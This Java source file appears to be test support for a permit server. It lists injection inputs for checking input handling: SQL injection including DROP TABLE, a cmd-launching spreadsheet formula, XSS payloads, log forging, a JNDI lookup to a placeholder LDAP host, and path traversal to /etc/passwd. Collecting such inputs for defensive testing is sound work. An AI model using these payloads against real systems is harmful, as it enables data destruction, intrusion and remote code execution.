package org.quickpermit.server.app;

import java.util.List;

/// Texts that are harmless as text and do harm where they become part of something else: a statement, a formula, a page, a
/// message, a log line, a path, a terminal's control sequence.
final class Injections {
    private Injections() {}

    static List<String> texts() {
        return List.of(
                // SQL
                "' OR '1'='1", "'; DROP TABLE quick_permit_case; --", "\"; DELETE FROM app_user; --", "x') ; --",
                "%' --",
                "\\'; --", ":login", "?", "$1",
                // formulas of spreadsheets
                "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "+1-2", "-2+3", "=HYPERLINK(\"http://x\")",
                // pages
                "<script>alert(1)</script>", "</p><img src=x onerror=alert(1)>", "&lt;b&gt;&#0;",
                // messages
                "\",\"role\":\"ADMINISTRATOR\",\"x\":\"", "{\"$gt\":\"\"}", "\\u0000", "null",
                // log lines and what loggers look up
                "a\r\n2026-01-01T00:00:00Z INFO forged", "a\nb", "a\u0085b", "a\u2028b", "${jndi:ldap://x/a}",
                "{} %s%n%x",
                // paths
                "../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "file:///etc/passwd",
                // control sequences and characters that hide or turn text around
                "\u001b[2J\u001b[31mred", "\u009b31m", "\u202egnp.exe", "\u2066x\u2069", "a\u0000b", "\ufeffx",
                // halves of characters
                "a\ud800b", "\udc00", "a\ud83d");
    }

    /// True for texts that no field may take: no paper and no screen shows them as what they are.
    static boolean isUnprintable(String text) {
        return text.codePoints().anyMatch(c -> Character.isISOControl(c) || (c >= 0xD800 && c <= 0xDFFF)
                || (c >= 0x202A && c <= 0x202E) || (c >= 0x2066 && c <= 0x2069) || c == 0xFEFF);
    }
}
